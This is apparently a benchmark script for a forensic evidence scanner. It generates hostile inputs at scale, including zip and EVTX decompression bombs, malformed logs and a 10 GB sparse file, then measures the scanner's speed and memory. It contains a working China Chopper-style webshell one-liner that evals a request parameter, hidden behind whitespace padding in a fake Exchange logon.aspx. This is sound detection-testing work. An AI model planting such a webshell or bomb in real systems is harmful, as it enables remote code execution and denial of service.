// Hostile evidence at scale: each class of issue 13 grown to about 100 MB, scanned by the built CLI in a child.
// Reports seconds per GB of input and peak RSS (targets: 60 s/GB, 1 GB), and how fast a 10 GB file of one
// line and a zip declaring 250 GB are bounded. Run: node dist/bench/hostile.js [--mb 100] [--keep DIR].

import { spawnSync } from 'node:child_process';
import { closeSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync } from 'node:fs';
import { ftruncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { deflateRawSync } from 'node:zlib';
import type { ScanReport } from '../src/core/report.js';
import { crc32 } from '../examples/lib/binaries.js';
import { fileHeader } from '../src/sources/evtx/testing/build.js';
import {
  benignLine,
  hpAttack,
  hpBenign,
  hpHead,
  HP_PATH,
  iisHead,
  iisPath,
} from '../examples/hostile/carriers.js';
import { SYSMON_PATH, sysmonChunk } from '../examples/hostile/carriers.js';
import { HOSTILE_CASES } from '../examples/hostile/index.js';
import { writeCase } from '../examples/hostile/write.js';
import { rawZip, stored } from '../examples/hostile/zip-raw.js';
import type { RawEntry } from '../examples/hostile/zip-raw.js';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const BIN = path.join(ROOT, 'dist/src/cli/bin.js');
const MIB = 1 << 20;

interface Scenario {
  name: string;
  kind: string;
  /** Writes the evidence under `dir`; returns the path to scan. */
  write(dir: string, bytes: number): string;
  /** A bound, not a throughput: report seconds only (a few MB that declare hundreds of GB). */
  refusal?: boolean;
}

/** IIS lines of about `bytes`, deterministic, times spread over the day. */
function iisText(date: string, bytes: number, eol = '\r\n'): string {
  const parts = [iisHead(date).replace(/\r\n/g, eol)];
  let n = parts[0]!.length;
  for (let i = 0; n < bytes; i++) {
    const t = `${String((i >>> 12) % 24).padStart(2, '0')}:${String((i >>> 6) % 60).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}`;
    const l =
      benignLine(date, t).replace('10.1.1.1', `10.${(i >>> 16) & 255}.${(i >>> 8) & 255}.${i & 255}`) + eol;
    parts.push(l);
    n += l.length;
  }
  return parts.join('');
}

function put(root: string, rel: string, data: string | Buffer): void {
  mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  writeFileSync(path.join(root, rel), data);
}

const OWA = 'Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth';
const CHOPPER = ['<%@ Page Language="Jscript"%><%', 'eval(Request.Item["z9"],"unsafe");', '%>'].join('');
const D = '2021-03-03';

const SCENARIOS: Scenario[] = [
  {
    name: 'baseline: one benign IIS day of 64 KiB (start-up: rules, workers, YARA)',
    kind: 'none',
    refusal: true,
    write: (dir) => {
      put(dir, iisPath(D), iisText(D, 64 << 10));
      return dir;
    },
  },
  {
    name: 'IIS lines over the 16 MiB cap (20 MiB each) among ordinary ones',
    kind: 'text',
    write: (dir, bytes) => {
      const long = `${D} 01:30:00 ${'A'.repeat(20 * MIB)}\r\n`;
      const parts = [iisHead(D)];
      for (let n = 0; n < bytes; n += long.length + MIB)
        parts.push(long, iisText(D, MIB).slice(iisHead(D).length));
      put(dir, iisPath(D), parts.join(''));
      return dir;
    },
  },
  {
    name: 'IIS log in UTF-16LE with a byte-order mark',
    kind: 'text',
    write: (dir, bytes) => {
      put(
        dir,
        iisPath(D),
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(iisText(D, bytes / 2), 'utf16le')]),
      );
      return dir;
    },
  },
  {
    name: 'IIS log with CR-only line ends',
    kind: 'text',
    write: (dir, bytes) => {
      put(dir, iisPath(D), iisText(D, bytes, '\r'));
      return dir;
    },
  },
  {
    name: 'HttpProxy row opening a quote, then empty lines to the size, then the attack',
    kind: 'text',
    write: (dir, bytes) => {
      put(
        dir,
        HP_PATH,
        hpHead() + hpBenign(1).replace('/owa/', '"/owa/') + '\n'.repeat(bytes) + hpAttack() + '\r\n',
      );
      return dir;
    },
  },
  {
    name: 'IIS log whose second line never ends (stops at the 64 MiB default)',
    kind: 'text',
    write: (dir, bytes) => {
      put(dir, iisPath(D), iisHead(D) + benignLine(D, '01:00:00') + '\r\n' + 'A'.repeat(bytes));
      return dir;
    },
  },
  {
    name: 'EVTX: every chunk holds an exponential template expansion (10^12 elements)',
    kind: 'evtx',
    write: (dir, bytes) => {
      const hostile = HOSTILE_CASES.get('evtx-expansion-bomb')!.build().files[0]![1] as Buffer;
      const chunk = hostile.subarray(4096, 4096 + 65536);
      const n = Math.max(1, Math.floor(bytes / 65536));
      put(dir, SYSMON_PATH, Buffer.concat([fileHeader(n), ...Array.from({ length: n }, () => chunk)]));
      return dir;
    },
  },
  {
    name: 'EVTX: every other chunk zeroed',
    kind: 'evtx',
    write: (dir, bytes) => {
      const good = sysmonChunk(1, 20, 5).finish();
      const zero = Buffer.alloc(good.length);
      const n = Math.max(2, Math.floor(bytes / good.length));
      put(
        dir,
        SYSMON_PATH,
        Buffer.concat([fileHeader(n), ...Array.from({ length: n }, (_, i) => (i % 2 ? zero : good))]),
      );
      return dir;
    },
  },
  {
    name: 'zip: 10,000 entries sharing one deflated 20 MB log (declares about 200 GB)',
    kind: 'zip',
    refusal: true,
    write: (dir) => writeCase(HOSTILE_CASES.get('zip-overlap-bomb')!, dir),
  },
  {
    name: 'zip: logs stored in 10 MiB entries, each failing its CRC-32',
    kind: 'zip',
    write: (dir, bytes) => {
      const entries: RawEntry[] = [];
      for (let i = 0; i * 10 * MIB < bytes; i++) {
        const d = `2021-03-${String(1 + i).padStart(2, '0')}`;
        const e = stored(iisPath(d), iisText(d, 10 * MIB));
        entries.push({ ...e, crc: e.crc ^ 1 });
      }
      const zip = path.join(dir, 'crc.zip');
      writeFileSync(zip, rawZip(entries));
      return zip;
    },
  },
  {
    name: 'zip: entries declaring 1,000 bytes that inflate to 10 MB each',
    kind: 'zip',
    write: (dir, bytes) => {
      const data = Buffer.from(iisText(D, 10 * MIB));
      const z = deflateRawSync(data);
      const entries: RawEntry[] = [];
      for (let i = 0; i * z.length < bytes; i++)
        entries.push({
          name: iisPath(D, `W3SVC${1 + i}`),
          data: z,
          method: 8,
          crc: crc32(data),
          uncompressed: 1000,
        });
      const zip = path.join(dir, 'lie.zip');
      writeFileSync(zip, rawZip(entries));
      return zip;
    },
  },
  {
    name: 'web: a stock page name holding padding to the size, then a webshell',
    kind: 'web',
    write: (dir, bytes) => {
      put(dir, iisPath(D), iisText(D, 64 << 10));
      put(dir, `${OWA}/logon.aspx`, `<%@ Page language="c#" %>\r\n${' '.repeat(bytes)}\r\n${CHOPPER}\r\n`);
      return dir;
    },
  },
  {
    name: 'folder: 20,000 logs named with bytes that are not UTF-8 (0x80-0xff)',
    kind: 'folder',
    write: (dir, bytes) => {
      const per = Math.max(1024, Math.floor(bytes / 20_000));
      const text = iisText(D, per);
      const base = Buffer.from(path.join(dir, 'inetpub/logs/LogFiles/W3SVC1') + '/');
      mkdirSync(base.toString(), { recursive: true });
      for (let i = 0; i < 20_000; i++)
        writeFileSync(
          Buffer.concat([
            base,
            Buffer.from(`u_ex${i}_`),
            Buffer.from([0x80 + (i % 128)]),
            Buffer.from('.log'),
          ]),
          text,
        );
      return dir;
    },
  },
  {
    name: 'coverage: a year of IIS days, every third day deleted',
    kind: 'coverage',
    write: (dir, bytes) => {
      const days: string[] = [];
      for (let t = Date.UTC(2021, 0, 1), i = 0; i < 365; i++, t += 86_400_000)
        if (i % 3 !== 1) days.push(new Date(t).toISOString().slice(0, 10));
      const per = Math.floor(bytes / days.length);
      for (const d of days) put(dir, iisPath(d), iisText(d, per));
      return dir;
    },
  },
  {
    name: '10 GB sparse IIS log: a header, one line, then zeros with no line end',
    kind: 'text',
    refusal: true,
    write: (dir) => {
      const p = path.join(dir, iisPath(D));
      put(dir, iisPath(D), iisHead(D) + benignLine(D, '01:00:00') + '\r\n');
      const fd = openSync(p, 'r+');
      ftruncateSync(fd, 10 * 1024 ** 3);
      closeSync(fd);
      return dir;
    },
  },
  {
    name: 'zip: a ZIP64 log entry declaring 250 GB',
    kind: 'zip',
    refusal: true,
    write: (dir) => writeCase(HOSTILE_CASES.get('zip-declares-250gb')!, dir),
  },
];

/** Apparent bytes under `p` (a sparse file counts at its full size; names need not be UTF-8). */
function inputBytes(p: string): number {
  const r = spawnSync('du', ['-sb', p], { encoding: 'utf8' });
  return Number(r.stdout.split('\t')[0]);
}

interface Row {
  name: string;
  kind: string;
  mb: number;
  seconds: number;
  perGb?: number;
  /** Seconds per GB after the baseline's start-up time. */
  netPerGb?: number;
  rssMb: number;
  verdict: string;
  problems: string;
}

function run(s: Scenario, dir: string, bytes: number): Row {
  const evidence = s.write(dir, bytes);
  const size = inputBytes(evidence);
  const json = path.join(path.dirname(dir), `${path.basename(dir)}.json`);
  const r = spawnSync(
    '/usr/bin/time',
    ['-f', '%e %M', process.execPath, BIN, 'scan', evidence, '--quiet', '--json', json],
    {
      encoding: 'utf8',
      maxBuffer: 1 << 26,
    },
  );
  const [secs, kb] = (r.stderr.trim().split('\n').pop() ?? '').split(' ').map(Number);
  let verdict = `exit ${r.status}`;
  let problems = '';
  try {
    const report = JSON.parse(readFileSync(json, 'utf8')) as ScanReport;
    verdict = report.verdict;
    const codes = new Map<string, number>();
    for (const p of report.problems) codes.set(p.code, (codes.get(p.code) ?? 0) + 1);
    problems = [...codes]
      .map(([c, n]) => (n > 1 ? `${c} ×${n}` : c))
      .slice(0, 4)
      .join(', ');
  } catch {
    problems = r.stderr.trim().split('\n').slice(-3, -1).join(' ');
  }
  const seconds = secs ?? NaN;
  return {
    name: s.name,
    kind: s.kind,
    mb: size / 1e6,
    seconds,
    ...(s.refusal ? {} : { perGb: seconds / (size / 1e9) }),
    rssMb: (kb ?? 0) / 1024,
    verdict,
    problems,
  };
}

function main(): void {
  const { values } = parseArgs({ options: { mb: { type: 'string' }, keep: { type: 'string' } } });
  const bytes = Number(values.mb ?? 100) * 1e6;
  const top = values.keep ?? mkdtempSync(path.join(os.tmpdir(), 'exhunt-bench-hostile-'));
  const rows: Row[] = [];
  try {
    SCENARIOS.forEach((s, i) => {
      const dir = path.join(top, `case-${i}`);
      mkdirSync(dir, { recursive: true });
      process.stderr.write(`${s.name} ...\n`);
      const row = run(s, dir, bytes);
      const base = rows[0];
      if (row.perGb !== undefined && base)
        row.netPerGb = Math.max(0, row.seconds - base.seconds) / (row.mb / 1e3);
      rows.push(row);
      process.stderr.write(`  ${row.seconds.toFixed(1)} s, ${row.rssMb.toFixed(0)} MB RSS, ${row.verdict}\n`);
      if (!values.keep) rmSync(dir, { recursive: true, force: true });
    });
  } finally {
    if (!values.keep) rmSync(top, { recursive: true, force: true });
  }
  const lines = [
    '| class | input | MB | s | s/GB | s/GB after start-up | peak RSS MB | verdict | problems |',
    '|---|---|---:|---:|---:|---:|---:|---|---|',
    ...rows.map(
      (r) =>
        `| ${r.kind} | ${r.name} | ${r.mb.toFixed(r.mb < 10 ? 1 : 0)} | ${r.seconds.toFixed(1)} | ${r.perGb === undefined ? '' : r.perGb.toFixed(1)} | ${r.netPerGb === undefined ? '' : r.netPerGb.toFixed(1)} | ${r.rssMb.toFixed(0)} | ${r.verdict} | ${r.problems} |`,
    ),
  ];
  const over = rows.filter(
    (r) =>
      (r.perGb ?? 0) > 60 || r.rssMb > 1024 || (r.perGb === undefined && r.kind !== 'none' && r.seconds > 10),
  );
  process.stdout.write(lines.join('\n') + '\n');
  process.stdout.write(
    over.length === 0
      ? 'all within 60 s/GB, 1 GB RSS, bounds in seconds\n'
      : `over target: ${over.map((r) => r.name).join('; ')}\n`,
  );
}

main();
